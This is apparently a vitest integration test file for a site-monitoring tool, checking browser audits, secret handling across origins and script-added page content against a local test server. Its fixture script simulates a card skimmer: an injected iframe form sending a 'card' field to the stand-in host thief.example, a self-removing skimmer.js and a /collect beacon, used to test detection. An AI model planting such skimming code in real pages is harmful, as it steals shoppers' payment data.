// The programs of audits and page views in real sandboxes, against a small site of two hosts.
import { existsSync } from 'node:fs'
import { type IncomingMessage, type ServerResponse, createServer } from 'node:http'
import { beforeAll, describe, expect, it } from 'vitest'
import { noBoxes, realBrowsers } from '../../../test/kit/browser/boxes.ts'
import { listening } from '../../../test/kit/servers/listening.ts'
import { openNet, runCheck } from '../../../test/kit/checks/run-check.ts'
import type { Outcome } from '../../domain/outcome.ts'
import { browser } from './browser.ts'
import { viewPages } from '../rendering/page-view.ts'

interface Seen {
  readonly host: string
  readonly path: string
  readonly headers: IncomingMessage['headers']
}

interface Site {
  readonly port: number
  readonly seen: Seen[]
}

const shop = (port: number): string => `<!doctype html><html lang=en><title>Shop</title>
<meta name=viewport content="width=device-width"><body><h1>Welcome</h1><p>Everything for birds.</p>
<script src=/shop.js></script><script src=/gone.js></script><script src=/ads/banner.js></script>
<img src=/moved.png><img src="http://localhost:${port}/logo.png"><script>console.error('no cart')</script>`

/** Attackers' forms: in an inlined frame, from a script that removes itself. */
const shopScript = (port: number): string => `
const frame = document.createElement('iframe'); document.body.append(frame);
frame.contentDocument.body.innerHTML = '<form action=https://thief.example/take><input name=card></form>';
const script = document.createElement('script'); script.src = 'http://localhost:${port}/skimmer.js';
script.onload = () => script.remove(); document.body.append(script);
fetch('http://localhost:${port}/collect', { mode: 'no-cors' }).catch(() => {})`

async function startSite(): Promise<Site> {
  const seen: Seen[] = []
  const answer = (request: IncomingMessage, response: ServerResponse): void => {
    const path = request.url!
    seen.push({ host: request.headers.host!.split(':')[0]!, path, headers: request.headers })
    if (path === '/') return void response.writeHead(200, { 'content-type': 'text/html' }).end(shop(port))
    if (path === '/broken') return void response.writeHead(500, { 'content-type': 'text/html' }).end('<h1>Sorry</h1>')
    if (path === '/moved.png') return void response.writeHead(302, { location: `http://localhost:${port}/away` }).end()
    const script = path === '/shop.js' ? shopScript(port) : path === '/skimmer.js' ? '1' : null
    if (script !== null) return void response.writeHead(200, { 'content-type': 'text/javascript' }).end(script)
    response.writeHead(404).end()
  }
  const port = await listening(createServer(answer))
  return { port, seen }
}

const secrets = { requestHeaders: [{ key: 'X-Api-Key', value: 'key-123' }], cookies: [{ name: 'sid', value: 'c-456' }] }

describe.skipIf(noBoxes)(`in a real browser${noBoxes ? ` (${noBoxes})` : ''}`, () => {
  describe('an audit', () => {
    let site: Site
    let outcome: Outcome

    beforeAll(async () => {
      site = await startSite()
      const config = { ...secrets, locale: 'de-AT', blockedUrlPatterns: ['*/ads/*'], device: 'desktop' }
      outcome = await runCheck(browser, `http://127.0.0.1:${site.port}/`, {
        browsers: realBrowsers(),
        config: { ...config, timeoutSeconds: 180 },
        deadlineMs: 180_000,
      })
    })

    it('measures the page', () => {
      expect(outcome.error).toBeNull()
      const { metrics } = outcome
      expect(metrics).toMatchObject({
        'browser.status_code': 200,
        'browser.audit_failed': 0,
        'browser.mixed_content': 0,
        'browser.css_bytes': 0,
        'browser.cls': expect.any(Number),
      })
      const positive = ['performance_score', 'seo_score', 'lcp_ms', 'fcp_ms', 'si_ms', 'tti_ms', 'ttfb_ms', 'js_bytes']
      for (const name of [...positive, 'accessibility_score', 'best_practices_score', 'total_bytes', 'dom_nodes'])
        expect([name, metrics[`browser.${name}`]]).toEqual([name, expect.any(Number)])
      expect(metrics['browser.third_party_bytes']).toBeGreaterThan(0)
      expect(metrics['browser.third_party_bytes']).toBeLessThan(metrics['browser.total_bytes']!)
      expect(metrics).not.toHaveProperty(['browser.inp_ms'])
    })

    it('finds what is broken', () => {
      expect(outcome.evidence).toMatchObject({
        url: `http://127.0.0.1:${site.port}/`,
        console_errors: expect.arrayContaining(['no cart']),
        failed_requests: expect.arrayContaining([
          { url: `http://127.0.0.1:${site.port}/gone.js`, problem: 'status 404' },
          { url: `http://localhost:${site.port}/logo.png`, problem: 'status 404' },
        ]),
      })
      expect(outcome.metrics['browser.failed_requests']).toBe((outcome.evidence!.failed_requests as object[]).length)
    })

    it('does not request blocked URLs', () => {
      expect(site.seen.map(({ path }) => path)).not.toContain('/ads/banner.js')
    })

    it('sends the configured language', () => {
      expect(site.seen[0]!.headers['accept-language']).toMatch(/^de-AT,de/)
    })

    it('sends headers and cookies to their own origin only, and not after a redirect', () => {
      const own = site.seen.filter(({ host, path }) => host === '127.0.0.1' && path !== '/robots.txt')
      const others = site.seen.filter(({ host }) => host === 'localhost')
      expect(own.map(({ headers }) => headers['x-api-key'])).toEqual(own.map(() => 'key-123'))
      expect(own[0]!.headers.cookie).toBe('sid=c-456')
      expect(others.map(({ path }) => path)).toEqual(expect.arrayContaining(['/logo.png', '/away', '/collect']))
      for (const { headers } of others) expect([headers['x-api-key'], headers.cookie]).toEqual([undefined, undefined])
    })

    it('produces the Lighthouse report and a screenshot, without secrets', () => {
      const [report, picture] = outcome.artifacts!
      expect(report).toMatchObject({ kind: 'report', contentType: 'text/html' })
      expect(report!.bytes.toString()).toContain('__LIGHTHOUSE_JSON__')
      expect(report!.bytes.toString()).not.toMatch(/key-123|c-456/)
      expect(picture).toMatchObject({ kind: 'screenshot', contentType: 'image/webp' })
      expect(picture!.bytes.toString('latin1', 8, 12)).toBe('WEBP')
    })
  })

  it('an audit of an error page says so at once, with a screenshot of it, in a browser with windows too', async () => {
    const site = await startSite()
    const chromium = ['/usr/lib/chromium/chromium'].find(existsSync)
    const around = { browsers: realBrowsers({ chromium }), deadlineMs: 180_000 }
    const outcome = await runCheck(browser, `http://127.0.0.1:${site.port}/broken`, around)
    expect(outcome).toMatchObject({ success: false, cause: 'http_status', statusCode: 500 })
    expect(outcome.artifacts).toMatchObject([{ kind: 'screenshot', contentType: 'image/jpeg' }])
  })

  it('an audit of an unreachable server says why', async () => {
    const around = { browsers: realBrowsers(), deadlineMs: 180_000 }
    const outcome = await runCheck(browser, 'http://nowhere.invalid/', around)
    expect(outcome).toMatchObject({ success: false, cause: 'dns', metrics: { 'browser.audit_failed': 1 } })
  })

  it('a page view contains what scripts added and requested', async () => {
    const site = await startSite()
    const own = `http://127.0.0.1:${site.port}`
    const context = { net: openNet(), browsers: realBrowsers(), signal: new AbortController().signal }
    const urls = [`${own}/`, `${own}/broken`]
    const views = await viewPages(context, { urls, wants: 'html', ipVersion: 'any', deadlineMs: 120_000 })
    const page = views.get(urls[0]!)!
    expect(page).toMatchObject({ url: urls[0], status: 200, headers: { 'content-type': 'text/html' } })
    expect(page.bytes!.toString()).toContain('<form action="https://thief.example/take">')
    expect(page.requests).toEqual(
      expect.arrayContaining([
        { use: 'script', url: `http://localhost:${site.port}/skimmer.js` },
        { use: 'connect', url: `http://localhost:${site.port}/collect` },
      ]),
    )
    expect(views.get(urls[1]!)).toMatchObject({ status: 500 })
  })
})
